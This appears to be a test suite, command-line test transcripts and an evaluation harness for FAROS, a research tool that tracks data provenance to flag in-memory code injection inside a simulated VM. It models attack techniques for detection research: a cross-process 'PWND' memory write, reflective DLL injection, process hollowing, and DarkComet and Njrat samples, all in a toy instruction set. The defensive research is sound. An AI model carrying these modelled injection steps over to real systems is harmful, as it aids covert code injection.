                   Faros_corpus.Progs.syscall Syscall.nt_set_file_position;
                   [
                     i (Faros_vm.Isa.Mov_rr (r1, Faros_vm.Isa.r7));
                     Faros_corpus.Progs.lea_label r2 "buf";
                     i (Faros_vm.Isa.Mov_ri (r3, 8));
                   ];
                   Faros_corpus.Progs.syscall Syscall.nt_read_file;
                   [ i (Faros_vm.Isa.Mov_rr (r1, r0)); i Faros_vm.Isa.Halt ];
                   Faros_corpus.Progs.cstring "path" "in.t";
                   Faros_corpus.Progs.buffer "buf" 8;
                 ])
          in
          (k, pid, (k, events))
        in
        let k, _ = k_and_events in
        (* exit code (r1 at halt) = bytes read = 4 remaining past offset 6 *)
        check "read count" 4 (Option.get (Kstate.proc k pid)).exit_code);
    Alcotest.test_case "unknown syscall returns error" `Quick (fun () ->
        let k, pid, _ =
          run_guest
            (List.concat
               [
                 Faros_corpus.Progs.syscall 0xEE;
                 [ i (Faros_vm.Isa.Mov_rr (r1, r0)); i Faros_vm.Isa.Halt ];
               ])
        in
        match Kstate.proc k pid with
        | Some p -> check "err" 0xFFFFFFFF p.exit_code
        | None -> Alcotest.fail "process missing");
    Alcotest.test_case "faulting process is terminated, others continue" `Quick
      (fun () ->
        let k = Kernel.create () in
        let bad =
          Pe.of_program ~name:"bad.exe" ~base:Process.image_base
            [ i (Faros_vm.Isa.Load (4, r0, Faros_vm.Isa.abs 0xDEAD0000)) ]
        in
        let good =
          Pe.of_program ~name:"good.exe" ~base:Process.image_base
            [ i (Faros_vm.Isa.Mov_ri (r1, 9)); i Faros_vm.Isa.Halt ]
        in
        Kernel.install_image k ~path:"bad.exe" bad;
        Kernel.install_image k ~path:"good.exe" good;
        let bad_pid = Kernel.spawn k "bad.exe" in
        let good_pid = Kernel.spawn k "good.exe" in
        Kernel.run k;
        let state pid = (Option.get (Kstate.proc k pid)).Process.state in
        check_b "bad terminated" true (state bad_pid = Process.Terminated);
        check_b "bad faulted" true ((Option.get (Kstate.proc k bad_pid)).fault <> None);
        check "good exit" 9 (Option.get (Kstate.proc k good_pid)).exit_code);
    Alcotest.test_case "scheduler interleaves two processes" `Quick (fun () ->
        let k = Kernel.create () in
        let worker name =
          Pe.of_program ~name ~base:Process.image_base
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 Faros_corpus.Progs.idle_loop ~label:"w" ~count:50;
                 [ i Faros_vm.Isa.Halt ];
               ])
        in
        Kernel.install_image k ~path:"a.exe" (worker "a.exe");
        Kernel.install_image k ~path:"b.exe" (worker "b.exe");
        let pa = Kernel.spawn k "a.exe" in
        let pb = Kernel.spawn k "b.exe" in
        Kernel.run ~timeslice:20 k;
        check_b "both done" true
          ((Option.get (Kstate.proc k pa)).state = Process.Terminated
          && (Option.get (Kstate.proc k pb)).state = Process.Terminated));
    Alcotest.test_case "max_ticks bounds runaway guests" `Quick (fun () ->
        let k = Kernel.create () in
        let spin =
          Pe.of_program ~name:"spin.exe" ~base:Process.image_base
            [ Faros_vm.Asm.Label "start"; Faros_vm.Asm.Jmp_l "start" ]
        in
        Kernel.install_image k ~path:"spin.exe" spin;
        ignore (Kernel.spawn k "spin.exe");
        Kernel.run ~max_ticks:500 k;
        check_b "bounded" true (Kernel.tick k <= 501));
    Alcotest.test_case "suspended process does not run until resumed" `Quick
      (fun () ->
        let k = Kernel.create () in
        let child =
          Pe.of_program ~name:"child.exe" ~base:Process.image_base
            [ i (Faros_vm.Isa.Mov_ri (r1, 1)); i Faros_vm.Isa.Halt ]
        in
        Kernel.install_image k ~path:"child.exe" child;
        let pid = Kernel.spawn k ~suspended:true "child.exe" in
        Kernel.run k;
        check_b "still suspended" true
          ((Option.get (Kstate.proc k pid)).state = Process.Suspended);
        check "no instructions" 0 (Option.get (Kstate.proc k pid)).cpu.instr_count);
    Alcotest.test_case "via_stub flag distinguishes API path" `Quick (fun () ->
        let stub_calls = ref 0 and raw_calls = ref 0 in
        let k = Kernel.create () in
        let image =
          Pe.of_program ~name:"t.exe" ~base:Process.image_base
            ~imports:[ "GetTickCount" ]
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 Faros_corpus.Progs.syscall Syscall.nt_get_tick_count;
                 [ i (Faros_vm.Isa.Mov_ri (r1, 0)) ];
                 Faros_corpus.Progs.call_api "GetTickCount";
                 [ i Faros_vm.Isa.Halt ];
               ])
        in
        Kernel.install_image k ~path:"t.exe" image;
        Kernel.subscribe k (fun ev ->
            match ev with
            | Os_event.Sys_enter { via_stub = true; _ } -> incr stub_calls
            | Os_event.Sys_enter { via_stub = false; _ } -> incr raw_calls
            | _ -> ());
        ignore (Kernel.spawn k "t.exe");
        Kernel.run k;
        check "stub" 1 !stub_calls;
        check "raw" 1 !raw_calls);
    Alcotest.test_case "cross-process write moves bytes and emits mem_copy"
      `Quick (fun () ->
        let k = Kernel.create () in
        let victim =
          Pe.of_program ~name:"v.exe" ~base:Process.image_base
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 Faros_corpus.Progs.idle_loop ~label:"w" ~count:200;
                 [ i Faros_vm.Isa.Halt ];
               ])
        in
        let writer =
          Pe.of_program ~name:"w.exe" ~base:Process.image_base
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 [ i (Faros_vm.Isa.Mov_ri (r1, 100)); i (Faros_vm.Isa.Mov_ri (r2, 64)) ];
                 Faros_corpus.Progs.syscall Syscall.nt_allocate_virtual_memory;
                 [
                   i (Faros_vm.Isa.Mov_ri (r1, 100));
                   i (Faros_vm.Isa.Mov_rr (r2, r0));
                   Faros_vm.Asm.Mov_label (r3, "payload");
                   i (Faros_vm.Isa.Mov_ri (Faros_vm.Isa.r4, 4));
                 ];
                 Faros_corpus.Progs.syscall Syscall.nt_write_virtual_memory;
                 [ i Faros_vm.Isa.Halt ];
                 Faros_corpus.Progs.cstring "payload" "PWND";
               ])
        in
        Kernel.install_image k ~path:"v.exe" victim;
        Kernel.install_image k ~path:"w.exe" writer;
        let copies = ref [] in
        Kernel.subscribe k (fun ev ->
            match ev with
            | Os_event.Mem_copy { src_paddrs; dst_paddrs; _ } ->
              copies := (src_paddrs, dst_paddrs) :: !copies
            | _ -> ());
        let vpid = Kernel.spawn k "v.exe" in
        ignore (Kernel.spawn k "w.exe");
        Kernel.run k;
        let v = Option.get (Kstate.proc k vpid) in
        check_s "bytes landed" "PWND"
          (Bytes.to_string
             (Faros_vm.Mmu.read_bytes k.machine.mmu ~asid:(Process.asid v)
                Process.heap_base 4));
        check "one copy event" 1 (List.length !copies));
    Alcotest.test_case "LoadLibrary maps a DLL and resolves its exports" `Quick
      (fun () ->
        let dll =
          Pe.of_program ~name:"helper.dll" ~base:Process.dll_base
            ~exports:[ "helper_fn" ]
            [
              Faros_vm.Asm.Label "helper_fn";
              i (Faros_vm.Isa.Mov_ri (r0, 1234));
              i Faros_vm.Isa.Ret;
            ]
        in
        let k, pid, events =
          run_guest
            ~setup:(fun k -> Kernel.install_image k ~path:"helper.dll" dll)
            (List.concat
               [
                 [
                   Faros_vm.Asm.Label "start";
                   Faros_corpus.Progs.lea_label r1 "name";
                   i (Faros_vm.Isa.Mov_ri (r2, 10));
                 ];
                 Faros_corpus.Progs.syscall Syscall.ldr_load_library;
                 (* resolve helper_fn and call it *)
                 [
                   Faros_corpus.Progs.lea_label r1 "fn";
                   i (Faros_vm.Isa.Mov_ri (r2, 9));
                 ];
                 Faros_corpus.Progs.syscall Syscall.ldr_get_proc_address;
                 [
                   i (Faros_vm.Isa.Call_r r0);
                   i (Faros_vm.Isa.Mov_rr (r1, r0));
                   i Faros_vm.Isa.Halt;
                 ];
                 Faros_corpus.Progs.cstring "name" "helper.dll";
                 Faros_corpus.Progs.cstring "fn" "helper_fn";
               ])
        in
        check "returned value" 1234 (Option.get (Kstate.proc k pid)).exit_code;
        check "module events" 2 (List.length (events_of_kind "module_loaded" events)));
  ]


(* -- more syscall edge cases --------------------------------------------------- *)

let exit_of k pid = (Option.get (Kstate.proc k pid)).Process.exit_code

let more_syscall_tests =
  [
    Alcotest.test_case "allocations get distinct regions with guard gaps" `Quick
      (fun () ->
        let k, pid, _ =
          run_guest
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 [ i (Faros_vm.Isa.Mov_ri (r1, 0)); i (Faros_vm.Isa.Mov_ri (r2, 100)) ];
                 Faros_corpus.Progs.syscall Syscall.nt_allocate_virtual_memory;
                 [ i (Faros_vm.Isa.Mov_rr (Faros_vm.Isa.r6, r0)) ];
                 [ i (Faros_vm.Isa.Mov_ri (r1, 0)); i (Faros_vm.Isa.Mov_ri (r2, 100)) ];
                 Faros_corpus.Progs.syscall Syscall.nt_allocate_virtual_memory;
                 (* exit code = second - first *)
                 [
                   i (Faros_vm.Isa.Mov_rr (r1, r0));
                   i (Faros_vm.Isa.Sub_rr (r1, Faros_vm.Isa.r6));
                   i Faros_vm.Isa.Halt;
                 ];
               ])
        in
        check "two pages apart" (2 * Faros_vm.Phys_mem.page_size) (exit_of k pid));
    Alcotest.test_case "zero-size allocation fails" `Quick (fun () ->
        let k, pid, _ =
          run_guest
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 [ i (Faros_vm.Isa.Mov_ri (r1, 0)); i (Faros_vm.Isa.Mov_ri (r2, 0)) ];
                 Faros_corpus.Progs.syscall Syscall.nt_allocate_virtual_memory;
                 [ i (Faros_vm.Isa.Mov_rr (r1, r0)); i Faros_vm.Isa.Halt ];
               ])
        in
        check "err" 0xFFFFFFFF (exit_of k pid));
    Alcotest.test_case "write_virtual_memory to a bad pid fails" `Quick
      (fun () ->
        let k, pid, _ =
          run_guest
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 [
                   i (Faros_vm.Isa.Mov_ri (r1, 999));
                   i (Faros_vm.Isa.Mov_ri (r2, Process.heap_base));
                   Faros_vm.Asm.Mov_label (r3, "buf");
                   i (Faros_vm.Isa.Mov_ri (Faros_vm.Isa.r4, 4));
                 ];
                 Faros_corpus.Progs.syscall Syscall.nt_write_virtual_memory;
                 [ i (Faros_vm.Isa.Mov_rr (r1, r0)); i Faros_vm.Isa.Halt ];
                 Faros_corpus.Progs.buffer "buf" 4;
               ])
        in
        check "err" 0xFFFFFFFF (exit_of k pid));
    Alcotest.test_case "read_virtual_memory roundtrips through another process"
      `Quick (fun () ->
        (* the reader pulls the victim's image header bytes into itself *)
        let k = Kernel.create () in
        let victim =
          Pe.of_program ~name:"v.exe" ~base:Process.image_base
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 Faros_corpus.Progs.idle_loop ~label:"w" ~count:100;
                 [ i Faros_vm.Isa.Halt ];
               ])
        in
        let reader =
          Pe.of_program ~name:"r.exe" ~base:Process.image_base
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 [
                   i (Faros_vm.Isa.Mov_ri (r1, 100));
                   i (Faros_vm.Isa.Mov_ri (r2, Process.image_base));
                   Faros_vm.Asm.Mov_label (r3, "buf");
                   i (Faros_vm.Isa.Mov_ri (Faros_vm.Isa.r4, 4));
                 ];
                 Faros_corpus.Progs.syscall Syscall.nt_read_virtual_memory;
                 [ i (Faros_vm.Isa.Mov_rr (r1, r0)); i Faros_vm.Isa.Halt ];
                 Faros_corpus.Progs.buffer "buf" 4;
               ])
        in
        Kernel.install_image k ~path:"v.exe" victim;
        Kernel.install_image k ~path:"r.exe" reader;
        let _v = Kernel.spawn k "v.exe" in
        let rpid = Kernel.spawn k "r.exe" in
        Kernel.run k;
        check "copied 4" 4 (exit_of k rpid));
    Alcotest.test_case "unmapping your own code page faults the process" `Quick
      (fun () ->
        let k, pid, _ =
          run_guest
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 [
                   i (Faros_vm.Isa.Mov_ri (r1, 0));
                   i (Faros_vm.Isa.Mov_ri (r2, Process.image_base));
                   i (Faros_vm.Isa.Mov_ri (r3, Faros_vm.Phys_mem.page_size));
                 ];
                 Faros_corpus.Progs.syscall Syscall.nt_unmap_view_of_section;
                 [ i Faros_vm.Isa.Halt ];
               ])
        in
        let p = Option.get (Kstate.proc k pid) in
        check_b "faulted" true (p.fault <> None);
        check_b "terminated" true (p.state = Process.Terminated));
    Alcotest.test_case "get/set context steer a suspended child" `Quick
      (fun () ->
        let k = Kernel.create () in
        let child =
          Pe.of_program ~name:"c.exe" ~base:Process.image_base
            [
              Faros_vm.Asm.Label "start";
              i (Faros_vm.Isa.Mov_ri (r1, 1));
              i Faros_vm.Isa.Halt;
              Faros_vm.Asm.Label "alt";
              i (Faros_vm.Isa.Mov_ri (r1, 2));
              i Faros_vm.Isa.Halt;
            ]
        in
        let alt_entry = List.assoc "alt" (Faros_vm.Asm.assemble ~origin:Process.image_base
          [
            Faros_vm.Asm.Label "start";
            i (Faros_vm.Isa.Mov_ri (r1, 1));
            i Faros_vm.Isa.Halt;
            Faros_vm.Asm.Label "alt";
            i (Faros_vm.Isa.Mov_ri (r1, 2));
            i Faros_vm.Isa.Halt;
          ]).Faros_vm.Asm.symbols
        in
        Kernel.install_image k ~path:"c.exe" child;
        let pid = Kernel.spawn k ~suspended:true "c.exe" in
        let p = Option.get (Kstate.proc k pid) in
        check "initial pc is entry" child.entry p.cpu.pc;
        p.cpu.pc <- alt_entry;
        p.state <- Process.Ready;
        k.run_queue <- k.run_queue @ [ pid ];
        Kernel.run k;
        check "ran the alternate entry" 2 (exit_of k pid));
    Alcotest.test_case "file delete and attribute syscalls" `Quick (fun () ->
        let k, pid, events =
          run_guest
            ~setup:(fun k -> Fs.install k.fs "victim.txt" "data")
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 [ Faros_corpus.Progs.lea_label r1 "path"; i (Faros_vm.Isa.Mov_ri (r2, 10)) ];
                 Faros_corpus.Progs.syscall Syscall.nt_query_attributes_file;
                 [ i (Faros_vm.Isa.Mov_rr (Faros_vm.Isa.r6, r0)) ];
                 [ Faros_corpus.Progs.lea_label r1 "path"; i (Faros_vm.Isa.Mov_ri (r2, 10)) ];
                 Faros_corpus.Progs.syscall Syscall.nt_delete_file;
                 [ Faros_corpus.Progs.lea_label r1 "path"; i (Faros_vm.Isa.Mov_ri (r2, 10)) ];
                 Faros_corpus.Progs.syscall Syscall.nt_query_attributes_file;
                 (* exit = before*10 + after *)
                 [
                   i (Faros_vm.Isa.Mov_ri (r2, 10));
                   i (Faros_vm.Isa.Mul_rr (Faros_vm.Isa.r6, r2));
                   i (Faros_vm.Isa.Add_rr (Faros_vm.Isa.r6, r0));
                   i (Faros_vm.Isa.Mov_rr (r1, Faros_vm.Isa.r6));
                   i Faros_vm.Isa.Halt;
                 ];
                 Faros_corpus.Progs.cstring "path" "victim.txt";
               ])
        in
        check "existed then gone" 10 (exit_of k pid);
        check "delete event" 1 (List.length (events_of_kind "file_deleted" events));
        check_b "fs agrees" false (Fs.exists k.fs "victim.txt"));
    Alcotest.test_case "tick count increases between reads" `Quick (fun () ->
        let k, pid, _ =
          run_guest
            (List.concat
               [
                 [ Faros_vm.Asm.Label "start" ];
                 Faros_corpus.Progs.syscall Syscall.nt_get_tick_count;
                 [ i (Faros_vm.Isa.Mov_rr (Faros_vm.Isa.r6, r0)) ];
                 Faros_corpus.Progs.syscall Syscall.nt_get_tick_count;
                 [
                   i (Faros_vm.Isa.Sub_rr (r0, Faros_vm.Isa.r6));
                   i (Faros_vm.Isa.Mov_rr (r1, r0));
                   i Faros_vm.Isa.Halt;
                 ];
               ])
        in
        check_b "monotonic" true (exit_of k pid > 0));
    Alcotest.test_case "synthetic devices are deterministic across kernels"
      `Quick (fun () ->
        let run_once () =
          let k, _, _ =
            run_guest
              (List.concat
                 [
                   [ Faros_vm.Asm.Label "start" ];
                   [ Faros_corpus.Progs.lea_label r1 "buf"; i (Faros_vm.Isa.Mov_ri (r2, 32)) ];
                   Faros_corpus.Progs.syscall Syscall.dev_audio_record;
                   [ Faros_corpus.Progs.lea_label r1 "path"; i (Faros_vm.Isa.Mov_ri (r2, 5)) ];
                   Faros_corpus.Progs.syscall Syscall.nt_create_file;
                   [
                     i (Faros_vm.Isa.Mov_rr (r1, r0));
                     Faros_corpus.Progs.lea_label r2 "buf";
                     i (Faros_vm.Isa.Mov_ri (r3, 32));
                   ];
                   Faros_corpus.Progs.syscall Syscall.nt_write_file;
                   [ i Faros_vm.Isa.Halt ];
                   Faros_corpus.Progs.cstring "path" "a.pcm";
                   Faros_corpus.Progs.buffer "buf" 32;
                 ])
          in
          Fs.read_all k.fs "a.pcm"
        in
        check_s "same bytes" (run_once ()) (run_once ()));
    Alcotest.test_case "spawn of a missing image raises" `Quick (fun () ->
        let k = Kernel.create () in
        Alcotest.check_raises "missing" (Spawn.Bad_executable "ghost.exe")
          (fun () -> ignore (Kernel.spawn k "ghost.exe")));
    Alcotest.test_case "loader rejects unresolvable imports" `Quick (fun () ->
        let k = Kernel.create () in
        let image =
          Pe.of_program ~name:"bad.exe" ~base:Process.image_base
            ~imports:[ "NoSuchApi" ]
            [ Faros_vm.Asm.Label "start"; i Faros_vm.Isa.Halt ]
        in
        Kernel.install_image k ~path:"bad.exe" image;
        Alcotest.check_raises "unresolved" (Loader.Unresolved_import "NoSuchApi")
          (fun () -> ignore (Kernel.spawn k "bad.exe")));
  ]


(* -- model-based properties --------------------------------------------------------- *)

(* The netstack is a byte stream: however the actor chunks its payload and
   however the guest sizes its recv calls, the concatenation comes out. *)
let netstack_stream_prop =
  QCheck.Test.make ~count:200 ~name:"recv reassembles any chunking"
    (QCheck.make
       QCheck.Gen.(
         pair
           (list_size (int_range 0 8) (string_size (int_range 0 20)))
           (list_size (int_range 1 12) (int_range 1 30))))
    (fun (chunks, recv_sizes) ->
      let net = Netstack.create ~local_ip:local in
      Netstack.register_actor net
        (mk_actor ~on_connect:(fun _ -> chunks) "10.0.0.2" 80);
      let s = Netstack.socket net in
      ignore (Netstack.connect net s ~ip:(Types.Ip.of_string "10.0.0.2") ~port:80);
      let buf = Buffer.create 64 in
      List.iter (fun len -> Buffer.add_string buf (Netstack.recv net s ~len)) recv_sizes;
      Buffer.add_string buf (Netstack.recv net s ~len:10_000);
      Buffer.contents buf = String.concat "" chunks)

(* The filesystem against a growable-bytes reference model. *)
let fs_model_prop =
  QCheck.Test.make ~count:200 ~name:"fs writes match a reference model"
    (QCheck.make
       QCheck.Gen.(
         list_size (int_range 0 12)
           (pair (int_range 0 64) (string_size (int_range 0 24)))))
    (fun writes ->
      let fs = Fs.create () in
      let f = Fs.create_file fs "m" in
      let model = ref "" in
      List.iter
        (fun (offset, data) ->
          Fs.write f ~offset (Bytes.of_string data);
          let needed = offset + String.length data in
          if needed > String.length !model then
            model := !model ^ String.make (needed - String.length !model) '\000';
          model :=
            String.sub !model 0 offset ^ data
            ^ String.sub !model needed (String.length !model - needed))
        writes;
      Fs.read_all fs "m" = !model)

(* Random map/translate agreement for the MMU. *)
let mmu_translate_prop =
  QCheck.Test.make ~count:200 ~name:"mmu read back equals write"
    (QCheck.make
       QCheck.Gen.(
         list_size (int_range 1 20) (pair (int_range 0 (8 * 4096 - 4)) (int_range 0 0xFFFFFF))))
    (fun writes ->
      let m = Faros_vm.Phys_mem.create () in
      let mmu = Faros_vm.Mmu.create m in
      let sp = Faros_vm.Mmu.create_space mmu ~name:"p" in
      Faros_vm.Mmu.map mmu sp ~vaddr:0x10000 ~pages:8;
      let model = Hashtbl.create 16 in
      List.iter
        (fun (off, v) ->
          Faros_vm.Mmu.write ~width:4 mmu ~asid:sp.asid (0x10000 + off) v;
          (* later writes can overlap earlier ones: track per byte *)
          for k = 0 to 3 do
            Hashtbl.replace model (off + k) ((v lsr (8 * k)) land 0xFF)
          done)
        writes;
      Hashtbl.fold
        (fun off expected acc ->
          acc && Faros_vm.Mmu.read_u8 mmu ~asid:sp.asid (0x10000 + off) = expected)
        model true)

let property_tests =
  [
    QCheck_alcotest.to_alcotest netstack_stream_prop;
    QCheck_alcotest.to_alcotest fs_model_prop;
    QCheck_alcotest.to_alcotest mmu_translate_prop;
  ]

let () =
  Alcotest.run "faros_os"
    [
      ("ip-flow", ip_tests);
      ("fs", fs_tests);
      ("netstack", net_tests);
      ("pe", pe_tests);
      ("exports", export_tests);
      ("kernel", kernel_tests);
      ("syscalls-more", more_syscall_tests);
      ("properties", property_tests);
    ]
