test/test_core.ml: Alcotest Core Engine Faros_corpus Faros_dift Faros_os Faros_replay Faros_vm Fmt List Policy Printf Provenance String Tag Tag_store
