test/test_corpus.ml: Alcotest Behavior Bytes Core Extras Faros_corpus Faros_dift Faros_os Faros_replay Faros_vm Fig4 Indirect Jit List Payloads Perf Printf Rats Registry Scenario String
