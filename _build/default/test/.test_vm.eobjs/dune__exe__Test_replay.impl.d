test/test_replay.ml: Alcotest Char Core Faros_corpus Faros_os Faros_replay List QCheck QCheck_alcotest String
