test/test_sandbox.ml: Alcotest Asm Buffer Bytes Compare Cuckoo Faros_corpus Faros_os Faros_replay Faros_sandbox Faros_vm Isa List Malfind Memdump Option Progs Scenario String Volatility
