test/test_dift.mli:
