test/test_vm.ml: Alcotest Array Asm Bytes Char Cpu Decode Disasm Encode Faros_vm Isa List Machine Mmu Phys_mem QCheck QCheck_alcotest Word
