The corpus registry enumerates all samples deterministically.

  $ faros list | tail -1
  136 samples

  $ faros list | head -4
  id                                       category               expected
  reflective_dll_inject                    attack(reflective-dll-injection) flag
  reverse_tcp_dns                          attack(reflective-dll-injection) flag
  bypassuac_injection                      attack(reflective-dll-injection) flag

The available DIFT policies.

  $ faros policies
  name             addr-deps  ctrl-deps  imm    1-bit  files
  faros            false      false      false  false  true
  address-deps     true       false      false  false  true
  control-deps     false      true       false  false  true
  all-indirect     true       true       false  false  true
  minos            true       false      true   true   false
  bit-taint        false      false      false  true   false

The headline attack: record, replay under FAROS, Table II report.
Everything is deterministic, down to the instruction counts.

  $ faros run reflective_dll_inject
  sample:       reflective_dll_inject
  record:       376 instructions, 1 packets, 217 rx bytes
  replay:       376 instructions, diverged: false
  taint:        376 instrs processed, 4753 tainted bytes, tags: 1 netflow / 2 process / 2 file
  verdict:      IN-MEMORY INJECTION FLAGGED
  4 flagged load(s) at 2 site(s), 0 whitelisted
  Memory Address Provenance List
  0x1000009D  NetFlow: {src ip,port: 169.254.26.161:4444, dest ip.port: 169.254.57.168:49162} ->Process: inject_client.exe ->Process: notepad.exe;
  0x10000042  NetFlow: {src ip,port: 169.254.26.161:4444, dest ip.port: 169.254.57.168:49162} ->Process: inject_client.exe ->Process: notepad.exe;

A clean sample stays clean.

  $ faros run snipping_tool_s0
  sample:       snipping_tool_s0
  record:       26 instructions, 0 packets, 0 rx bytes
  replay:       26 instructions, diverged: false
  taint:        26 instrs processed, 400 tainted bytes, tags: 0 netflow / 1 process / 2 file
  verdict:      clean
  0 flagged load(s) at 0 site(s), 0 whitelisted

Unknown samples are rejected with a hint.

  $ faros run no_such_sample
  unknown sample "no_such_sample" (try `faros list`)
  [1]

The end-of-run process list of the hollowing attack.

  $ faros ps process_hollowing
   100  process_hollowing.exe    terminated
   101  svchost.exe              terminated

Trace files round-trip through disk.

  $ faros record process_hollowing -o t.ftr
  recorded process_hollowing: 1107 instructions, 16 events, 96 trace bytes -> t.ftr
  $ faros replay process_hollowing -i t.ftr | head -2
  replayed process_hollowing from t.ftr: 1107 instructions, diverged: false
  verdict: IN-MEMORY INJECTION FLAGGED

The Section VI-B comparison on the transient attack: only FAROS flags.

  $ faros compare reflective_dll_inject_transient
  sample                               cuckoo  malfind  vadinfo   FAROS  netflow  
  reflective_dll_inject_transient      no      no       no        yes    yes      
  hooked api calls seen by cuckoo: 2; raw syscalls it missed: 50

Snapshot forensics on the hollowing sample.

  $ faros malfind process_hollowing
  pslist:
     100  process_hollowing.exe    terminated
     101  svchost.exe              terminated
  hollowing suspects: 101
  malfind: pid 101 (svchost.exe): private executable region at 0x10000000 (46 instrs)

Provenance-aware strings find the attacker's artifacts in the victim.

  $ faros strings reflective_dll_inject | grep notepad | grep injected
  notepad.exe          0x100000BD "MessageBoxAinjected!"   NetFlow: {src ip,port: 169.254.26.161:4444, dest ip.port: 169.254.57.168:49162} ->Process: inject_client.exe

The taint map after the self-injection run.

  $ faros taint reverse_tcp_dns | head -3
  process              tainted    netflow-tainted
  inject_client.exe    4517       4517
  
