(* The evaluation harness: regenerates every table and figure of the paper.

     dune exec bench/main.exe              -- everything
     dune exec bench/main.exe -- table2 fig7 ...   -- a subset

   Sections:
     table1   propagation rules (Table I) demonstration
     table2   FAROS output for the reflective DLL injection (Table II)
     fig7..fig10   provenance-tracking figures
     inject   DarkComet / Njrat code injection
     table3   JIT false-positive study (Table III)
     table4   non-injecting malware + benign FP study (Table IV)
     table5   performance overhead (Table V)
     cuckoo   comparison with Cuckoo sandbox + Volatility/malfind (Sec. VI-B)
     indirect indirect-flow experiments (Figs. 1-2)
     ablation detection under alternative DIFT policies
     evasion  taint-laundering evasion vs the policy response (Sec. VI-D)
     tomography tag-type confluence view (Sec. IV's inspiration)
     memory   shadow / tag-store growth per analysis
     campaign worker-pool scaling over a fixed corpus slice
     obs      whole-pipeline profiler / telemetry overhead
     graph    attack-graph builder overhead (plugin off vs on)
     query    incremental-builder residency + forensic-store latency
     micro    Bechamel micro-benchmarks of the engine primitives *)

let pp = Format.std_formatter

let section title = Fmt.pf pp "@.=== %s ===@." title

(* -- helpers ------------------------------------------------------------ *)

let analyze ?config (sample : Faros_corpus.Registry.sample) =
  Faros_corpus.Scenario.analyze ?config sample.scenario

let flag_of (outcome : Core.Analysis.outcome) =
  match Core.Report.flagged_sites outcome.report with
  | f :: _ -> Some f
  | [] -> None

let render_prov (outcome : Core.Analysis.outcome) prov =
  Core.Report.render_provenance ~store:outcome.faros.engine.store
    ~name_of_asid:(Core.Faros_plugin.name_of_asid outcome.faros.kernel)
    prov

(* One provenance-tracking figure: the flagged instruction, its provenance,
   and the provenance of the memory it read. *)
let figure ~title ~sample_id () =
  section title;
  match Faros_corpus.Registry.find sample_id with
  | None -> Fmt.pf pp "unknown sample %s@." sample_id
  | Some sample -> (
    let outcome = analyze sample in
    match flag_of outcome with
    | None -> Fmt.pf pp "NOT FLAGGED (unexpected)@."
    | Some f ->
      Fmt.pf pp "flagged instruction     %a  (at 0x%08X in %s)@." Faros_vm.Disasm.pp
        f.f_instr f.f_pc f.f_process;
      Fmt.pf pp "instruction provenance  %s@." (render_prov outcome f.f_instr_prov);
      Fmt.pf pp "reads memory address    0x%08X@." f.f_read_vaddr;
      Fmt.pf pp "address provenance      %s@." (render_prov outcome f.f_read_prov))

(* -- table 1 ------------------------------------------------------------ *)

let table1 () =
  section "Table I: FAROS propagation rules";
  let open Faros_dift in
  let shadow = Shadow.create () in
  let store = Tag_store.create () in
  let nf =
    Tag_store.netflow store
      { src_ip = 0x01020304; src_port = 4444; dst_ip = 0x05060708; dst_port = 49162 }
  in
  let ft = Tag_store.file store ~name:"a.txt" ~version:1 in
  Shadow.set_mem shadow 0x100 (Provenance.singleton nf);
  Shadow.set_mem shadow 0x101 (Provenance.singleton ft);
  Propagate.copy shadow ~dst:(Propagate.Mem 0x200) ~src:(Propagate.Mem 0x100);
  Fmt.pf pp "copy(a, b)     prov(a) <- prov(b)            : %a@." Provenance.pp
    (Shadow.get_mem shadow 0x200);
  Propagate.union shadow ~dst:(Propagate.Mem 0x201) ~src1:(Propagate.Mem 0x100)
    ~src2:(Propagate.Mem 0x101);
  Fmt.pf pp "union(a, b, c) prov(a) <- prov(b) U prov(c)  : %a@." Provenance.pp
    (Shadow.get_mem shadow 0x201);
  Propagate.delete shadow (Propagate.Mem 0x200);
  Fmt.pf pp "delete(a)      prov(a) <- {}                 : %s@."
    (if Provenance.is_empty (Shadow.get_mem shadow 0x200) then "{}" else "non-empty")

(* -- table 2 ------------------------------------------------------------ *)

let table2 () =
  section "Table II: FAROS output for the reflective DLL injection";
  match Faros_corpus.Registry.find "reflective_dll_inject" with
  | None -> ()
  | Some sample ->
    let outcome = analyze sample in
    Core.Faros_plugin.pp_report pp outcome.faros

(* -- figures ------------------------------------------------------------ *)

let fig7 () =
  figure
    ~title:"Fig. 7: reflective DLL injection (Meterpreter) into notepad.exe"
    ~sample_id:"reflective_dll_inject" ()

let fig8 () =
  figure ~title:"Fig. 8: reverse_tcp_dns (self-injection)"
    ~sample_id:"reverse_tcp_dns" ()

let fig9 () =
  figure ~title:"Fig. 9: bypassuac_injection into firefox.exe"
    ~sample_id:"bypassuac_injection" ()

let fig10 () =
  figure ~title:"Fig. 10: process hollowing of svchost.exe"
    ~sample_id:"process_hollowing" ()

let inject () =
  figure ~title:"Code injection: DarkComet" ~sample_id:"darkcomet_injection" ();
  figure ~title:"Code injection: Njrat" ~sample_id:"njrat_injection" ()

(* -- fig 4: the provenance life cycle --------------------------------------- *)

let fig4 () =
  section "Fig. 4: a byte's provenance list across its life cycle";
  let exp = Faros_corpus.Fig4.experiment () in
  let outcome = Faros_corpus.Scenario.analyze exp.exp_scenario in
  let kernel = outcome.faros.kernel in
  Fmt.pf pp
    "network -> process1.exe -> process2.exe -> %s -> process3.exe@."
    Faros_corpus.Fig4.file1;
  (match
     List.find_opt
       (fun (p : Faros_os.Process.t) -> p.proc_name = "process3.exe")
       (Faros_os.Kstate.processes kernel)
   with
  | None -> Fmt.pf pp "process3 missing@."
  | Some p3 ->
    let paddr =
      Faros_vm.Mmu.translate kernel.machine.mmu
        ~asid:(Faros_os.Process.asid p3) exp.exp_sink_vaddr
    in
    let prov = Faros_dift.Shadow.get_mem outcome.faros.engine.shadow paddr in
    Fmt.pf pp "provenance of the byte process3 read (oldest first):@.  %s@."
      (render_prov outcome prov));
